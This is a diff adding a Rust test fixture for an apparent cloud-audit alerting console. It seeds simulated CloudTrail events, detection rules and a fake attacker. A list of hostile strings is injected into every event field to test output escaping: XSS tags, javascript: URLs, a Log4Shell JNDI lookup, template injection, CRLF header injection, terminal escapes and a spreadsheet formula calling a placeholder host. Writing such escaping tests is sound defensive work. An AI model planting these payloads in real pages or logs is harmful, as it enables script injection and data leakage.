@@ -1,0 +1,452 @@
+//! A small installation in a temporary folder: a log, an index with a day of events, a store with alerts, rules.
+
+use std::net::SocketAddr;
+use std::sync::atomic::{AtomicI64, Ordering};
+use std::sync::{Arc, Mutex};
+
+use alerting::{Policy, Store};
+use axum::Router;
+use bus::embedded::{EmbeddedBus, Options};
+use bus::{Bus, Stop, Topic};
+use console::{App, AuditEvent, Check, Config, Injection, Stage};
+use event::{Event, Finding, Id, Outcome, RuleInfo, Severity, Str, Time};
+use search::Searcher;
+use search::offline::OfflineIndex;
+
+pub(crate) const HOUR: i64 = 3_600_000_000;
+const MINUTE: i64 = 60_000_000;
+
+/// Texts that a log author may put anywhere; each would leave a mark in a page that obeyed it.
+pub(crate) const HOSTILE: &[&str] = &[
+    "<script>document.title='pwned'</script>",
+    "<img src=x onerror=\"document.title='pwned'\">",
+    "\"><svg onload=document.title='pwned'>",
+    "'><iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
+    "javascript:document.title='pwned'",
+    "<a href=\"javascript:document.title='pwned'\" autofocus onfocus=document.title='pwned'>x</a>",
+    "</textarea></title></style></script><script>document.title='pwned'</script>",
+    "<style>@import url(http://192.0.2.99/x.css)</style><link rel=stylesheet href=http://192.0.2.99/x>",
+    "<meta http-equiv=refresh content=\"0;url=http://192.0.2.99/\">",
+    "<form action=http://192.0.2.99><input name=x><button>go</button></form>",
+    "<div hx-get=\"/logout\" hx-trigger=\"load\" hx-on:load=\"document.title='pwned'\">x</div>",
+    "<base href=http://192.0.2.99/>",
+    "{{constructor.constructor('document.title=1')()}} ${jndi:ldap://192.0.2.99/a} %{7*7} <%= 7*7 %>",
+    "\u{1b}]0;pwned\u{7}\u{1b}[31mred\u{1b}[0m",
+    "user\u{202e}gnp.exe \u{200b}\u{feff}p\u{430}ypal",
+    "a\r\nSet-Cookie: pwned=1\r\n\r\n<b>b</b>",
+    "=HYPERLINK(\"http://192.0.2.99\",\"x\")",
+];
+
+pub(crate) struct World {
+    pub(crate) store: Arc<Store>,
+    pub(crate) bus: Arc<dyn Bus>,
+    pub(crate) audit: Arc<Mutex<Vec<AuditEvent>>>,
+    pub(crate) clock: Arc<AtomicI64>,
+    pub(crate) stop: Stop,
+    pub(crate) events: Vec<Event>,
+    searcher: Searcher,
+    registry: prometheus::Registry,
+    metrics: console::Metrics,
+    next: AtomicI64,
+    _dir: tempfile::TempDir,
+}
+
+impl World {
+    /// With alerts of people and an attacker.
+    pub(crate) fn new() -> World {
+        let world = World::empty();
+        world.seed();
+        world
+    }
+
+    /// The same and alerts that consist of hostile texts.
+    pub(crate) fn hostile() -> World {
+        let world = World::new();
+        let rule = &rules()[5];
+        for event in world
+            .events
+            .iter()
+            .filter(|e| e.source_id.starts_with("hostile"))
+        {
+            let mut rule = rule.clone();
+            rule.title = event.actor.to_string();
+            rule.id = format!("{}{}", rule.id, event.source_id);
+            world.find(finding(&rule, event));
+        }
+        world
+    }
+
+    fn empty() -> World {
+        let dir = tempfile::tempdir().unwrap();
+        let start = Time::parse("2026-11-22T12:00:00Z").unwrap();
+        let clock = Arc::new(AtomicI64::new(start.0));
+        let ticking = clock.clone();
+        let clock_fn: event::Clock = Arc::new(move || Time(ticking.load(Ordering::SeqCst)));
+        let bus = EmbeddedBus::open(&dir.path().join("bus"), Options::default()).unwrap();
+        let policy = Policy::new(&alerting::Config::default()).unwrap();
+        let store = Store::open(&dir.path().join("alerts.db"), policy).unwrap();
+        let events = events(start);
+        let index = dir.path().join("index");
+        let config = search::Config::default();
+        let mut writer = OfflineIndex::create(&index, &config).unwrap();
+        for event in &events {
+            writer.add(event).unwrap();
+        }
+        writer.finish().unwrap();
+        let registry = prometheus::Registry::new();
+        let metrics = search::Metrics::new(&registry).unwrap();
+        let searcher = Searcher::open(&index, &config, metrics, clock_fn).unwrap();
+        World {
+            store: Arc::new(store),
+            bus: Arc::new(bus),
+            audit: Arc::default(),
+            clock,
+            stop: Stop::default(),
+            searcher,
+            metrics: console::Metrics::new(&registry).unwrap(),
+            registry,
+            next: AtomicI64::new(0),
+            events,
+            _dir: dir,
+        }
+    }
+
+    pub(crate) fn now(&self) -> Time {
+        Time(self.clock.load(Ordering::SeqCst))
+    }
+
+    pub(crate) fn router(&self, config: Config) -> Router {
+        let clock = self.clock.clone();
+        let (audit, rules) = (self.audit.clone(), Arc::new(rules()));
+        let bus = self.bus.clone();
+        let injections = vec![
+            Injection {
+                start: self.now().plus(-9 * MINUTE),
+                end: self.now().plus(-8 * MINUTE),
+                title: "The audit trail is stopped".into(),
+                account: "111122223333".into(),
+                actor: "arn:aws:iam::111122223333:user/mallory".into(),
+                source_ip: "203.0.113.50".into(),
+                expect: vec!["CloudTrail logging was stopped".into()],
+                event_ids: vec!["ev-0".into()],
+                decoy: false,
+            },
+            Injection {
+                start: self.now().plus(-5 * MINUTE),
+                end: self.now().plus(-4 * MINUTE),
+                title: "Three failed logins of a person who then got in".into(),
+                actor: "arn:aws:iam::111122223333:user/carol".into(),
+                decoy: true,
+                ..Injection::default()
+            },
+        ];
+        let app = App {
+            searcher: self.searcher.clone(),
+            store: self.store.clone(),
+            rules: Arc::new(move || rules.clone()),
+            explain: Arc::new(|_, event| vec![format!("selection: action = {}", event.action)]),
+            stages: vec![Stage::on_bus(&bus, "match", "match", Topic::Events)],
+            bus,
+            checks: vec![Check {
+                name: "log",
+                run: Arc::new(|| Ok("writes are durable".into())),
+            }],
+            clock: Arc::new(move || Time(clock.load(Ordering::SeqCst))),
+            registry: self.registry.clone(),
+            metrics: self.metrics.clone(),
+            config,
+            tls: false,
+            demo: Some(Arc::new(move || injections.clone())),
+            audit: Arc::new(move |event| audit.lock().unwrap().push(event)),
+            stop: self.stop.clone(),
+        };
+        let intake =
+            Router::new().route("/api/v1/events", axum::routing::post(|| async { "taken" }));
+        console::router(app, Some(intake)).unwrap()
+    }
+
+    /// Serves on a free port of loopback until the runtime ends.
+    pub(crate) async fn serve(&self, config: Config) -> SocketAddr {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        let service = self
+            .router(config)
+            .into_make_service_with_connect_info::<SocketAddr>();
+        tokio::spawn(async move { axum::serve(listener, service).await });
+        address
+    }
+
+    /// Folds a finding into an alert, as the alerting stage does; the alert's id.
+    pub(crate) fn find(&self, finding: Finding) -> Id {
+        let at = self.next.fetch_add(1, Ordering::SeqCst) as u64;
+        let id = finding.episode;
+        self.store
+            .apply(&[(at, finding)], 0, at, at + 1, self.now())
+            .unwrap();
+        id
+    }
+
+    fn seed(&self) {
+        let rules = rules();
+        let attack: Vec<&Event> = self
+            .events
+            .iter()
+            .filter(|e| e.actor.contains("mallory"))
+            .collect();
+        for (rule, event) in rules.iter().zip(&attack) {
+            self.find(finding(rule, event));
+        }
+        let others = self
+            .events
+            .iter()
+            .filter(|e| !e.actor.contains("mallory") && e.outcome == Outcome::Denied);
+        for (i, event) in others.step_by(9).take(4).enumerate() {
+            self.find(finding(&rules[2 + i % 4], event));
+        }
+    }
+}
+
+/// A finding of a rule on an event.
+pub(crate) fn finding(rule: &RuleInfo, event: &Event) -> Finding {
+    let id = Finding::event_id(&rule.id, event.id);
+    let mut finding = Finding {
+        id,
+        episode: id,
+        rule_id: Str::from(&rule.id),
+        title: Str::from(&rule.title),
+        severity: rule.severity,
+        tags: rule.tags.iter().map(Str::from).collect(),
+        ..Finding::from_event(event)
+    };
+    if rule.correlation.is_some() {
+        finding.group = [("src_ip".into(), Some(event.src_ip.clone()))].into();
+        finding.count = 14;
+        finding.first_event_time = event.time.plus(-3 * MINUTE);
+    }
+    finding
+}
+
+pub(crate) fn rules() -> Vec<RuleInfo> {
+    let rule = |id: &str, title: &str, severity, description: &str, correlation: Option<&str>| {
+        RuleInfo {
+            id: id.into(),
+            title: title.into(),
+            description: description.into(),
+            author: "Trailwarden".into(),
+            severity,
+            status: "test".into(),
+            tags: vec!["attack.defense-evasion".into(), "attack.t1562.008".into()],
+            false_positives: vec![
+                "A planned change of the audit set-up by the platform team.".into(),
+            ],
+            next_steps: vec![
+                "Ask the owner of the identity whether they did this.".into(),
+                "Start logging again, then look at what was done in between.".into(),
+                "Deactivate the access key if nobody knows of it.".into(),
+            ],
+            references: vec![
+                "https://attack.mitre.org/techniques/T1562/008/".into(),
+                "javascript:alert(1)".into(),
+            ],
+            yaml: format!(
+                "title: {title}\nid: {id}\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    selection:\n        eventName: StopLogging\n    condition: selection\nlevel: {severity}\n"
+            ),
+            file: "rules/aws/cloudtrail/stop_logging.yml".into(),
+            correlation: correlation.map(str::to_owned),
+        }
+    };
+    vec![
+        rule(
+            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0001",
+            "CloudTrail logging was stopped",
+            Severity::Critical,
+            "Somebody stopped a trail. From then on calls in this account leave no record, which is what an intruder wants before anything else.",
+            None,
+        ),
+        rule(
+            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0002",
+            "Access key made for another user",
+            Severity::High,
+            "A user made an access key that belongs to somebody else: a way to come back.",
+            None,
+        ),
+        rule(
+            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0003",
+            "Many refused calls by one identity",
+            Severity::Medium,
+            "One identity was refused more often than its work explains.",
+            Some("event_count"),
+        ),
+        rule(
+            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0004",
+            "Console login without a second factor",
+            Severity::Medium,
+            "A person logged in to the console with a password only.",
+            None,
+        ),
+        rule(
+            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0005",
+            "Secrets read in a burst",
+            Severity::High,
+            "Many secrets were read within minutes.",
+            Some("event_count"),
+        ),
+        rule(
+            "5f2e1c1a-6a53-4f2e-9a57-1e3f6a1d0006",
+            "Security group opened",
+            Severity::Low,
+            "A port was opened to the world.",
+            None,
+        ),
+    ]
+}
+
+/// A day of events: people at work, one attacker, and hostile texts in every field.
+fn events(now: Time) -> Vec<Event> {
+    let mut out = Vec::new();
+    let people = ["alice", "bob", "carol", "terraform", "deploy-bot"];
+    let calls = [
+        ("ec2", "DescribeInstances"),
+        ("s3", "GetObject"),
+        ("iam", "ListUsers"),
+        ("sts", "AssumeRole"),
+        ("lambda", "Invoke"),
+        ("secretsmanager", "GetSecretValue"),
+        ("ec2", "AuthorizeSecurityGroupIngress"),
+    ];
+    for i in 0..400_i64 {
+        let person = people[(i * 7 % 5) as usize];
+        let (service, action) = calls[(i * 5 % 7) as usize];
+        let denied = i % 11 == 3;
+        // More in the last hours than before, as in an office.
+        let time = now.plus(-(i * i * 24 * HOUR / 160_000) - 10 * MINUTE);
+        out.push(event(
+            &format!("ev-w{i}"),
+            time,
+            person,
+            service,
+            action,
+            denied,
+            &format!("198.51.100.{}", i * 7 % 5 * 8 + i % 3),
+        ));
+    }
+    let attack = [
+        ("cloudtrail", "StopLogging", false),
+        ("iam", "CreateAccessKey", false),
+        ("s3", "ListBuckets", true),
+        ("signin", "ConsoleLogin", false),
+        ("secretsmanager", "GetSecretValue", false),
+    ];
+    for (i, (service, action, denied)) in attack.into_iter().enumerate() {
+        let time = now.plus(-9 * MINUTE + i as i64 * 20_000_000);
+        out.push(event(
+            &format!("ev-{i}"),
+            time,
+            "mallory",
+            service,
+            action,
+            denied,
+            "203.0.113.50",
+        ));
+    }
+    for (i, text) in HOSTILE.iter().enumerate() {
+        let mut event = event(
+            &format!("hostile-{i}"),
+            now.plus(-2 * HOUR),
+            text,
+            text,
+            text,
+            true,
+            text,
+        );
+        let t = Str::from(*text);
+        for field in [
+            &mut event.actor,
+            &mut event.identity,
+            &mut event.actor_id,
+            &mut event.session,
+            &mut event.region,
+            &mut event.user_agent,
+            &mut event.error_code,
+            &mut event.error_message,
+            &mut event.function,
+            &mut event.access_key,
+        ] {
+            *field = t.clone();
+        }
+        event.account = Str::from(format!("{i}{text}"));
+        event.resources = vec![t.clone()];
+        event.origin.object = t;
+        event.raw = serde_json::json!({"userAgent": text, "userIdentity": {"userName": text, *text: [text, {"x": text}]}}).to_string().into();
+        out.push(event);
+    }
+    out
+}
+
+fn event(
+    id: &str,
+    time: Time,
+    person: &str,
+    service: &str,
+    action: &str,
+    denied: bool,
+    ip: &str,
+) -> Event {
+    let arn = format!("arn:aws:iam::111122223333:user/{person}");
+    let raw = serde_json::json!({
+        "eventVersion": "1.10", "eventTime": time, "eventSource": format!("{service}.amazonaws.com"), "eventName": action,
+        "awsRegion": "eu-central-1", "sourceIPAddress": ip, "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1",
+        "userIdentity": {"type": "IAMUser", "arn": arn, "userName": person, "accountId": "111122223333", "sessionContext": {"attributes": {"mfaAuthenticated": "false"}}},
+        "requestParameters": {"name": "org-trail", "filters": [{"name": "tag:team", "values": ["platform"]}]},
+        "errorCode": denied.then_some("AccessDenied"), "recipientAccountId": "111122223333", "eventID": id,
+    });
+    Event {
+        id: Id::cloudtrail("111122223333", id),
+        source_id: id.into(),
+        source: "aws.cloudtrail".into(),
+        time,
+        ingest_time: time.plus(90_000_000),
+        account: "111122223333".into(),
+        region: "eu-central-1".into(),
+        category: "Management".into(),
+        service: format!("{service}.amazonaws.com").into(),
+        action: action.into(),
+        outcome: if denied {
+            Outcome::Denied
+        } else {
+            Outcome::Success
+        },
+        error_code: if denied {
+            "AccessDenied".into()
+        } else {
+            Str::default()
+        },
+        error_message: if denied {
+            format!("User: {arn} is not authorized to perform: {service}:{action}").into()
+        } else {
+            Str::default()
+        },
+        actor: arn.clone().into(),
+        actor_type: "IAMUser".into(),
+        actor_id: arn.into(),
+        identity: person.into(),
+        access_key: format!(
+            "AKIAEXAMPLE{}",
+            person.to_uppercase().chars().take(9).collect::<String>()
+        )
+        .into(),
+        mfa: Some(false),
+        src_ip: ip.into(),
+        user_agent: "aws-cli/2.15.30 Python/3.11.8 Linux/6.1".into(),
+        resources: vec![
+            format!("arn:aws:{service}:eu-central-1:111122223333:trail/org-trail").into(),
+        ],
+        origin: event::Origin {
+            object: "s3://trail-bucket/AWSLogs/111122223333/a.json.gz".into(),
+            position: 3,
+            sha256: Str::default(),
+        },
+        raw: raw.to_string().into(),
+        ..Event::default()
+    }
+}
